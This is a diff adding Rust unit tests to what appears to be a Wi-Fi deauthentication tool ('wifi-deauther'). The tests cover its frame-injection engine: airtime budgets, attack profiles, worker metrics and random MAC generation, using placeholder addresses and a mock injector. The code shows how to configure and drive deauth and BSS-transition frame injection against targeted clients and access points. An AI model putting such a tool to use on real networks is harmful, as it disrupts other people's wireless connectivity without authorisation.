+    async fn test_airtime_charges_frame_sent() {
+        use super::super::packet::{strip_radiotap, ActionFramePacket, DEAUTH_FRAME_LEN};
+        
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let transition = ActionFramePacket::bss_transition(target, access_point).to_bytes();
+        let transition_len = strip_radiotap(&transition).expect("Should have radiotap").len();
+        
+        // Ten deauths fill the budget, but only nine of the longer transition requests fit
+        let budget_us = 10 * airtime(DEAUTH_FRAME_LEN, 1000).as_micros() as u64;
+        assert_eq!(budget_us / airtime(transition_len, 1000).as_micros() as u64, 9);
+        let config = EngineConfig {
+            worker_threads: 1,
+            airtime: Some(AirtimeConfig { phy_rate_kbps: 1000, budget_us_per_second: budget_us }),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        engine.request_queue.push(InjectionRequest {
+            target,
+            access_point,
+            reason_code: 7,
+            count: 10,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::BssTransition,
+            tracker: None,
+            priority: Priority::Normal,
+        });
+        
+        // The tenth frame waits about 100 ms for the budget to refill
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        assert_eq!(engine.worker_metrics()[0].packets_handled, 9);
+        
+        // Stopping while it waits drops the frame instead of sending it once the budget refills
+        engine.stop_injection().await.expect("Should stop");
+        tokio::time::sleep(Duration::from_millis(150)).await;
+        assert_eq!(engine.worker_metrics()[0].packets_handled, 9);
+        let completed = std::iter::from_fn(|| events.try_recv().ok())
+            .find_map(|event| match event {
+                Event::RequestCompleted { sent, failed, .. } => Some((sent, failed)),
+                _ => None,
+            });
+        assert_eq!(completed, Some((9, 0)));
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[test]
+    fn test_byte_budget_released_reservation_is_reusable() {
+        let budget = ByteBudget::new(100);
+        
+        assert!(budget.reserve(60));
+        assert!(!budget.reserve(41));
+        budget.release(60);
+        assert!(budget.reserve(100));
+        assert!(budget.is_spent());
+        assert!(!budget.reserve(1));
+    }
+    
+    #[tokio::test]
+    async fn test_setup_warnings_in_order() {
+        use crate::network::interface::{InterfaceStatus, InterfaceType, PlatformInterfaceData};
+        
+        let interface = NetworkInterface {
+            name: "wlan0mon".to_string(),
+            index: 3,
+            mac_address: MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
+            interface_type: InterfaceType::WiFi,
+            status: InterfaceStatus::Up,
+            supported_channels: Vec::new(),
+            current_channel: Some(1),
+            signal_strength: None,
+            platform_data: PlatformInterfaceData::Unknown,
+        };
+        let config = EngineConfig {
+            worker_threads: 1,
+            metrics_journal: Some(std::env::temp_dir().join("wifi-deauther-missing-dir").join("metrics.jsonl")),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_interface(interface);
+        
+        // Reported by code outside the engine before it starts
+        engine.warnings().push(WarningCategory::Platform, "Wireless kernel modules not loaded");
+        engine.start().expect("Should start engine");
+        
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            }],
+            frames_per_target: 1,
+            channel: Some(6),
+            ..AttackProfile::default()
+        };
+        engine.run_profile(profile).expect("Should run profile").stop();
+        
+        let categories: Vec<_> = engine.take_warnings().iter().map(|warning| warning.category).collect();
+        assert_eq!(
+            categories,
+            [WarningCategory::Platform, WarningCategory::Configuration, WarningCategory::Channel]
+        );
+        assert!(engine.take_warnings().is_empty());
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_worker_metrics_imbalance() {
+        let config = EngineConfig {
+            worker_threads: 2,
+            ..EngineConfig::default()
+        };
+        
+        // Whichever worker takes the first frame stalls while the other drains the queue
+        let injector = Arc::new(MockInjector::stalling(Duration::from_millis(300)));
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(injector);
+        engine.start().expect("Should start");
+        
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            }],
+            frames_per_target: 10,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        
+        engine.run_profile(profile)
+            .expect("Should run profile")
+            .wait()
+            .await
+            .expect("Should finish");
+        
+        let workers = engine.worker_metrics();
+        assert_eq!(workers.len(), 2);
+        assert_eq!(workers[0].worker_id, 0);
+        assert_eq!(workers[1].worker_id, 1);
+        assert_eq!(workers.iter().map(|w| w.packets_handled).sum::<u64>(), 10);
+        assert!(workers.iter().all(|w| w.failures == 0));
+        assert_ne!(workers[0].packets_handled, workers[1].packets_handled);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[test]
+    fn test_seeded_rng_is_reproducible() {
+        let seeded = |seed| EngineConfig {
+            rng_seed: Some(seed),
+            ..EngineConfig::default()
+        };
+        
+        let sequence = |engine: &DeauthEngine| (0..8).map(|_| engine.random_mac()).collect::<Vec<_>>();
+        
+        let first = sequence(&DeauthEngine::new(seeded(42)).expect("Should create engine"));
+        let second = sequence(&DeauthEngine::new(seeded(42)).expect("Should create engine"));
+        let other = sequence(&DeauthEngine::new(seeded(7)).expect("Should create engine"));
+        
+        assert_eq!(first, second);
+        assert_ne!(first, other);
+        assert!(first.iter().all(|&mac| {
+            super::super::packet::is_locally_administered(mac) && super::super::packet::is_unicast(mac)
+        }));
+    }
 }
\ No newline at end of file